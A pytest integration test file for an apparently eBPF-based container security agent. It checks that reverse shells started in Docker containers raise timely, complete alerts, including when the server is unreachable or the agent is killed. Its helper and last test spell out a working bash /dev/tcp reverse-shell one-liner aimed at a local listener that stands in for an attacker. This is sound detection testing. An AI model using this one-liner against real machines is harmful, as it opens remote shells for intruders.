"""From a process in a container to an alert at the server, through the real kernel, sensor, engine, spool and wire."""

import os
import socket
import subprocess
import threading
import time

import pytest

from conftest import docker_cli
from peer import Peer
from seawall.agent import enrol, resident
from seawall.agent.identity import Home

pytestmark = [
    pytest.mark.docker,
    pytest.mark.kernel,
    pytest.mark.timeout(180),
    pytest.mark.skipif(os.geteuid() != 0, reason="loads eBPF programs: needs root"),
]
NAME = "sw-agent-victim"


@pytest.fixture
def listener():
    """A port on this host, as an attacker's machine would have it. Says nothing, keeps connections open."""
    with socket.socket() as server:
        server.bind(("0.0.0.0", 0))
        server.listen(20)
        held = []

        def serve():
            try:
                while True:
                    held.append(server.accept()[0])
            except OSError:
                return

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        for connection in held:
            connection.close()


@pytest.fixture
def victim(bash_image):
    docker_cli("run", "-d", "--rm", "--name", NAME, bash_image, "sleep", "600")
    yield docker_cli("inspect", "-f", "{{.Id}}", NAME)
    subprocess.run(["docker", "rm", "-f", NAME], capture_output=True, timeout=30, check=False)


@pytest.fixture
def peer(tmp_path):
    made = Peer(tmp_path / "server")
    yield made
    made.close()


@pytest.fixture
def agent(tmp_path, peer):
    enrol.enrol(Home(tmp_path / "node"), peer.url, "good-token", peer.authority.fingerprint, "host")
    running = []

    def begin():
        state = tmp_path / "node"
        count = len(peer.of("heartbeat"))
        process = subprocess.Popen(resident.command(state), env=resident.environment(state))
        running.append(process)
        peer.wait(lambda: len(peer.of("heartbeat")) > count, 20)
        sensor = peer.of("heartbeat")[-1]["sensor"]
        assert sensor["state"] == "on", sensor
        return process

    yield begin
    for process in running:
        process.terminate()
        process.wait(20)


def reverse_shell(port):
    """Connects bash to the listener on the bridge's address, and lets go after a moment."""
    gateway = docker_cli("inspect", "-f", "{{.NetworkSettings.Gateway}}", NAME)
    script = f"exec 3<>/dev/tcp/{gateway}/{port}; bash -c 'sleep 1' <&3 >&3 2>&3"
    return subprocess.Popen(
        ["docker", "exec", NAME, "bash", "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


def shells(peer):
    return [alert for alert in peer.of("alert") if alert["category"] == "reverse_shell"]


def test_a_reverse_shell_arrives_within_a_second_and_whole(agent, peer, victim, listener):
    agent()
    began = time.time()
    reverse_shell(listener).wait(20)
    alert = peer.wait(lambda: shells(peer))[0]
    assert peer.stored_at[alert["id"]] - began < 1.5
    assert alert["container"]["id"] == victim
    assert alert["container"]["name"] == NAME
    assert alert["container"]["image"].startswith("seawall-test")
    assert alert["process"]["exe"].endswith("bash")
    assert str(listener) in str(alert["evidence"])


def test_alerts_while_the_server_is_away_and_the_agent_is_killed_arrive_later(agent, peer, victim, listener):
    first = agent()
    reverse_shell(listener).wait(20)
    peer.wait(lambda: shells(peer))
    peer.go_away()
    time.sleep(0.5)
    time.sleep(11)  # past the window in which repeats are counted instead of told
    reverse_shell(listener).wait(20)
    time.sleep(1)
    first.kill()
    first.wait(5)
    peer.come_back()
    agent()
    peer.wait(lambda: len({alert["id"] for alert in shells(peer)}) >= 2, 30)


def test_an_alert_of_a_container_that_lives_a_moment_knows_its_name(agent, peer, bash_image, listener):
    """The container is gone before anybody could ask who it was."""
    agent()
    gateway = docker_cli("network", "inspect", "bridge", "-f", "{{(index .IPAM.Config 0).Gateway}}")
    script = f"exec 3<>/dev/tcp/{gateway or '172.17.0.1'}/{listener}; bash -c 'sleep 0.2' <&3 >&3 2>&3"
    docker_cli("run", "--rm", "--name", "sw-agent-moment", bash_image, "bash", "-c", script)
    alert = peer.wait(lambda: shells(peer))[0]
    assert alert["container"]["name"] == "sw-agent-moment"
